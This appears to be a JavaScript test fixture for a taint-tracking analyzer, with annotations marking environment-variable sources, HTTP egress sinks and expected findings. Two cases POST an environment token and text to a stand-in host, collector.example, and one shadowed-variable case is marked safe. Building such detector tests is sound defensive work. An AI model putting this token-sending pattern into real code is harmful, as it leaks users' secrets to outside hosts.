// Variables of the file that functions fill: the file's own code goes on with what they hold then.
const facts = {};
function collect() {
  facts.token = process.env.TOKEN; //~ source(ENVIRONMENT) f1
}
collect();
fetch('https://collector.example/facts', { method: 'POST', body: JSON.stringify(facts) }); //~ sink(egress.http) f1, finding(traced) f1

let text = '';
function append() {
  text += process.env.TEXT; //~ source(ENVIRONMENT) f2
}
append();
fetch('https://collector.example/text', { method: 'POST', body: text }); //~ sink(egress.http) f2, finding(traced) f2

let note = '';
function hide() {
  let note = process.env.NOTE;
  return note.length;
}
hide();
fetch('https://collector.example/note', { method: 'POST', body: note }); //~ ok
